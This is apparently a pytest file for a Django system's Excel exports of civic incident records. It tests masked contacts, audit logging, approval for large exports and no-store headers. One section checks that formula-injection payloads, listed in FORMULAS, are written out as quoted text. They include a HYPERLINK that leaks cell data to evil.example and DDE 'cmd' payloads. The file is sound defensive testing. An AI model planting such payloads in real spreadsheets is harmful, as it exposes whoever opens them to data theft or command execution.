"""Excel exports: filters written, Chinese headers, contacts masked for every role (as in
the CSV export), an audit row per export, large exports as a task with a download link,
exports above PINGAN_EXPORT_APPROVAL_ROWS only with a second person's approval."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from pingan.api.tests.helpers import report
from pingan.core.models import AuditEntry
from pingan.events.models import Category
from pingan.privacy.models import ExportRequest
from pingan.privacy.services import export_request_create, export_request_decide


def _reported(cast, **kw):
    return report(
        cast, reporter_name="张三丰", reporter_phone="13812345678", address="海滨路18号3幢", **kw
    )


def _sheet(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    return load_workbook(io.BytesIO(response.content)).active


def test_leader_export_is_masked_filtered_and_audited(cast, api_as):
    _reported(cast)
    _reported(cast, point="point_b1", user=cast.gridworker_b)
    api = api_as(cast.leader)
    ws = _sheet(api.get("/events/export", region=cast.town_a.pk))
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "事件清单"
    assert rows[1][0] == "筛选条件：区划：武原街道"
    assert rows[3][:3] == ("事件编号", "标题", "分类")
    data = rows[4:]
    assert len(data) == 1  # town A only
    assert data[0][12:15] == ("张**", "138****5678", "海滨路18号****")
    entry = AuditEntry.objects.get(action="analytics.export")
    assert entry.actor == cast.leader
    assert entry.detail["filters"] == {"region": str(cast.town_a.pk)}
    assert entry.detail["rows"] == 1
    assert "13812345678" not in str(entry.detail)


def test_dispatcher_export_is_masked_too(cast, api_as):
    # A full contact is shown only by the audited reveal on one event, never in bulk.
    _reported(cast)
    ws = _sheet(api_as(cast.dispatcher).get("/events/export"))
    rows = list(ws.iter_rows(values_only=True))
    assert rows[4][12:15] == ("张**", "138****5678", "海滨路18号****")
    assert "13812345678" not in str(rows) and "张三丰" not in str(rows)


def test_an_export_by_phone_keeps_the_phone_out_of_the_audit_log(cast, api_as):
    _reported(cast)
    ws = _sheet(api_as(cast.dispatcher).get("/events/export", reporter_phone="13812345678"))
    assert len(list(ws.iter_rows(values_only=True))) == 5
    entry = AuditEntry.objects.get(action="analytics.export")
    assert entry.detail["filters"] == {"reporter_phone": "138****5678"}


def test_large_export_needs_an_approval_then_serves_one_download(cast, api_as, settings):
    settings.PINGAN_EXPORT_APPROVAL_ROWS = 1
    _reported(cast)
    _reported(cast, point="point_a2")
    api = api_as(cast.dispatcher)
    r = api.get("/events/export", status="reported")
    assert r.status_code == 403
    assert r.json()["error"]["code"] == "export_approval_required"
    assert not AuditEntry.objects.filter(action="analytics.export").exists()
    req = export_request_create(
        user=cast.dispatcher,
        kind="events_xlsx",
        filters={"status": "reported"},
        row_count=2,
        reason="月度分析",
    )
    # Not approved yet: no download; the requester may not approve it.
    assert api.get("/events/export", approval=req.pk).status_code == 409
    assert api.get("/events/export", approval="x").status_code == 422
    export_request_decide(user=cast.leader, request_id=req.pk, approve=True)
    # Someone else cannot use the approval.
    assert api_as(cast.leader).get("/events/export", approval=req.pk).status_code == 404
    ws = _sheet(api.get("/events/export", approval=req.pk))
    assert len(list(ws.iter_rows(values_only=True))) == 4 + 2
    entry = AuditEntry.objects.get(action="analytics.export")
    assert entry.detail["approval"] == req.pk and entry.detail["filters"] == {"status": "reported"}
    # One download per approval.
    assert api.get("/events/export", approval=req.pk).status_code == 409
    req.refresh_from_db()
    assert req.status == "used"


def test_large_xlsx_on_the_page_asks_for_approval_and_downloads_xlsx(cast, client, settings):
    settings.PINGAN_EXPORT_APPROVAL_ROWS = 1
    _reported(cast)
    _reported(cast, point="point_a2")
    client.force_login(cast.dispatcher)
    r = client.get("/events/export.xlsx", {"status": "reported"})
    assert r.status_code == 403 and "需要审批" in r.content.decode()
    assert 'name="format" value="xlsx"' in r.content.decode()
    r = client.post("/exports/new/", {"f_status": "reported", "format": "xlsx", "reason": "周报"})
    assert r.status_code == 302
    req = ExportRequest.objects.get()
    assert (req.kind, req.row_count, req.filters) == ("events_xlsx", 2, {"status": "reported"})
    client.force_login(cast.leader)
    assert client.post(f"/exports/{req.pk}/decide/", {"decision": "approve"}).status_code == 302
    client.force_login(cast.dispatcher)
    ws = _sheet(client.get(f"/exports/{req.pk}/download/"))
    rows = list(ws.iter_rows(values_only=True))
    assert len(rows) == 4 + 2 and rows[4][12] == "张**"
    assert client.get(f"/exports/{req.pk}/download/").status_code == 409


def test_bad_filter_is_422(cast, api_as):
    r = api_as(cast.leader).get("/events/export", reported_from="2026-13-01")
    assert r.status_code == 422


def test_large_export_runs_as_a_task_with_a_download_link(
    cast, api_as, settings, django_capture_on_commit_callbacks
):
    settings.PINGAN_EXPORT_SYNC_MAX = 1
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    _reported(cast)
    _reported(cast, point="point_a2")
    api = api_as(cast.leader)
    with django_capture_on_commit_callbacks(execute=True):
        r = api.get("/events/export")
    assert r.status_code == 202
    job = r.json()
    status = api.get(f"/exports/{job['id']}").json()
    assert (status["state"], status["total"], status["done"]) == ("done", 2, 2)
    assert status["download"].endswith(f"/api/v1/exports/{job['id']}/file")
    f = api.get(f"/exports/{job['id']}/file")
    body = b"".join(f.streaming_content)
    ws = load_workbook(io.BytesIO(body)).active
    assert len(list(ws.iter_rows(values_only=True))) == 4 + 2
    # Someone else's job is not there.
    assert api_as(cast.county_dispatcher).get(f"/exports/{job['id']}").status_code == 404


def test_kpi_table_export_has_the_figures(cast, api_as):
    _reported(cast)
    _reported(cast, point="point_b1", user=cast.gridworker_b)
    ws = _sheet(api_as(cast.leader).get("/stats/kpis/export", region=cast.county.pk))
    rows = {r[0]: r for r in ws.iter_rows(values_only=True) if r and r[0]}
    assert rows["受理登记总量"][1] == 2
    assert AuditEntry.objects.filter(action="analytics.export", object_type="kpi").count() == 1


# ---- issue 16: control characters, formula injection, the rolling window, no-store ----

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A5,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # fullwidth equals
]


def _title_cells(response):
    """(value, data_type) of the title column's data cells, as Excel would open them."""
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    return {(row[1].value, row[1].data_type) for row in ws.iter_rows(min_row=5)}


def test_excel_export_strips_control_characters(cast, api_as):
    # "\x01", ESC and DEL planted by a citizen must not break the whole export with a 500.
    _reported(cast, title="邻里\x01纠纷\x1b[31m\x7f红字\t制表\n换行", description="楼道\x1b堆物")
    r = api_as(cast.dispatcher).get("/events/export")
    assert _title_cells(r) == {("邻里纠纷[31m红字\t制表\n换行", "s")}


def test_excel_export_writes_formulas_as_text(cast, api_as):
    for title in [*FORMULAS, "\x01=1+1", "-5"]:
        _reported(cast, title=title)
    cells = _title_cells(api_as(cast.dispatcher).get("/events/export"))
    # Text, with a quote in front, never a live formula; a plain number stays as it is.
    assert cells == {("'" + t, "s") for t in [*FORMULAS, "=1+1"]} | {("-5", "s")}


def test_excel_export_quotes_masked_contacts_that_would_be_formulas(cast, api_as):
    report(cast, reporter_name="=1+2", address="=cmd|' /C calc'!A0 海滨路")
    ws = load_workbook(io.BytesIO(api_as(cast.dispatcher).get("/events/export").content)).active
    row = next(ws.iter_rows(min_row=5))
    assert (row[12].value, row[12].data_type) == ("'=***", "s")
    assert (row[14].value, row[14].data_type) == ("'=cmd|'****", "s")


def test_kpi_export_quotes_formula_names_and_keeps_numbers(cast, api_as):
    # The table counts by top-level category: 矛盾纠纷, the parent of 邻里纠纷.
    Category.objects.filter(pk=cast.dispute.pk).update(name="=1+1\x01邻里")
    _reported(cast)
    r = api_as(cast.leader).get("/stats/kpis/export", region=cast.county.pk)
    wb = load_workbook(io.BytesIO(r.content))
    data = {row[0].value: row[1] for row in wb["分类统计"].iter_rows(min_row=5)}
    assert "'=1+1邻里" in data
    assert (data["'=1+1邻里"].value, data["'=1+1邻里"].data_type) == (1, "n")
    total = next(
        row for row in wb["考核指标"].iter_rows(min_row=5) if row[0].value == "受理登记总量"
    )
    assert (total[1].value, total[1].data_type) == (1, "n")


def test_exports_split_into_windows_still_need_an_approval(cast, api_as, settings):
    # Two rows in grid A1, one in grid A2; the threshold is two rows. Exporting grid A1
    # and then grid A2 is three rows within the window: the second export needs approval.
    settings.PINGAN_EXPORT_APPROVAL_ROWS = 2
    _reported(cast)
    _reported(cast)
    _reported(cast, point="point_a2", user=cast.gridleader)
    api = api_as(cast.dispatcher)
    assert api.get("/events/export", region=cast.grid_a1.pk).status_code == 200
    r = api.get("/events/export", region=cast.grid_a2.pk)
    assert r.status_code == 403
    error = r.json()["error"]
    assert error["code"] == "export_approval_required"
    assert "已导出的 2 条" in error["message"] and "24 小时" in error["message"]
    assert AuditEntry.objects.filter(action="analytics.export").count() == 1
    # The window is the user's own: another dispatcher of the county may export grid A2.
    assert (
        api_as(cast.county_dispatcher).get("/events/export", region=cast.grid_a2.pk).status_code
        == 200
    )


def test_every_export_answer_is_marked_no_store(
    cast, api_as, settings, django_capture_on_commit_callbacks
):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    _reported(cast)
    _reported(cast, point="point_a2", user=cast.gridleader)
    api = api_as(cast.leader)

    def no_store(response, status=200):
        assert response.status_code == status
        assert "no-store" in response.get("Cache-Control", "")

    no_store(api.get("/events/export"))
    no_store(api.get("/stats/kpis/export", region=cast.county.pk))
    settings.PINGAN_EXPORT_SYNC_MAX = 1
    with django_capture_on_commit_callbacks(execute=True):
        r = api.get("/events/export")
    no_store(r, 202)
    job = r.json()["id"]
    no_store(api.get(f"/exports/{job}"))
    no_store(api.get(f"/exports/{job}/file"))
    # A briefing names events (codes, titles): its document is not kept either.
    no_store(api.get("/briefings/render", region=cast.county.pk))
    briefing = api.get("/briefings").json()[0]["id"]
    no_store(api.get(f"/briefings/{briefing}/file"))
